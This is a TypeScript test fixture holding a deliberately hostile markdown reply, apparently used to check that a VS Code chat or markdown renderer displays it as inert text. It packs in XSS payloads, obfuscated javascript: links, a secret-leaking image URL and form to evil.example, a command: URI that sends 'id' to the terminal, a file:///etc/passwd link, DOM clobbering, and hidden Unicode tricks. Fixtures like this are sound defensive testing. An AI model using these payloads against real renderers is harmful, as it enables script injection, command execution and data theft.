/**
 * A reply of a server that means harm: raw HTML, links and images that would run something or call somebody, and names
 * that borrow ours. Rendered safely it is text, and nobody hears of it. The host `evil.example` does not exist.
 */
export const hostileMarkdown = `# Hello <script>alert(1)</script>

<img src=x onerror="alert(2)"><svg onload="alert(3)"><a id="acquireVsCodeApi">clobber</a>
<iframe src="https://evil.example/frame"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">
<style>body { background: url(https://evil.example/css) }</style><base href="https://evil.example/">
<form action="https://evil.example/"><button>Send</button><input type="image" src="https://evil.example/input"></form>
<video poster="https://evil.example/poster"><source srcset="https://evil.example/a 1x, https://evil.example/b 2x"></video>

![picture](https://evil.example/picture?q=SECRET) ![reference][leak] ![data](data:text/html,<script>alert(4)</script>)

[leak]: https://evil.example/reference "title"

- [command](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)
- [script](javascript:alert(5)) [SCRIPT](JaVaScRiPt:alert(6)) [tab](java\tscript:alert(7)) [entity](&#106;avascript:alert(8))
- [file](file:///etc/passwd) [vscode](vscode://settings/) [unc](\\\\evil.example\\share) [relative](//evil.example/x)
- <javascript:alert(9)> <https://user:password@evil.example/> [аррlе.com](https://xn--80ak6aa92e.com/)

| <img src=x onerror=alert(10)> | \`<script>alert(11)</script>\` |
| --- | --- |
| [x](vbscript:alert(12)) | ![y](//evil.example/cell) |

\`\`\`html
<script>alert(13)</script>
<img src=https://evil.example/code>
\`\`\`

\`\`\`"><img src=x onerror=alert(14)>
the info string is hostile
\`\`\`

<div class="codicon" role="article" aria-label="Assistant" style="position:fixed;inset:0">covers the view</div>

> <details open ontoggle=alert(15)><summary>quote</summary></details>

Invisible: \u202Etxet desrever\u202C \u200B\u2066hidden\u2069 \u{E0041}\u{E0042}.
`;
